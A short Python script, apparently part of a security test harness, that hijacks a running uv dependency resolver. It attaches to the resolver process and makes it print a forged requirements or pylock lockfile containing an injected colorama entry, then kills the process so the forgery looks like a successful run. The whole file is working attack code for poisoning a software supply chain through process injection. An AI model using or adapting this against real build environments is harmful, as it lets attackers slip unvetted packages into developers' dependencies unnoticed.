"""Takes the resolver over, prints a document with one more package in its place, and ends it successfully. Argument: seconds."""

import re
import sys

from tracing import Taken, command, for_seconds, note, own_processes

REQUIREMENTS = b"colorama==0.4.6 --hash=sha256:4f1d9991f5acc0ca119f9d443620b77f9d6b33703e51011c16baf57afb285fc6\n"
HEAD = b'lock-version = "1.0"\ncreated-by = "uv"\n'
PYLOCK = (
    b'\n[[packages]]\nname = "colorama"\nversion = "0.4.6"\nwheels = [{ url = "https://example.org/'
    b'colorama-0.4.6-py2.py3-none-any.whl", hashes = { sha256 = "'
    b'4f1d9991f5acc0ca119f9d443620b77f9d6b33703e51011c16baf57afb285fc6" } }]\n'
)

note("watching for the resolver")
for _ in for_seconds(float(sys.argv[1])):
    for pid in own_processes():
        words = command(pid)
        if not re.search(r"(^|/)uv .*(compile|export|lock)", words):
            continue
        note("RESOLVER", pid, words)
        try:
            taken = Taken(pid)
            document = HEAD + PYLOCK if "pylock" in words else REQUIREMENTS
            note("POISONED", pid, taken.call(1, 1, taken.put(document), len(document)), "of", len(document))
            taken.call(231, 0)
        except OSError as error:
            note("lost", pid, error)
        sys.exit()
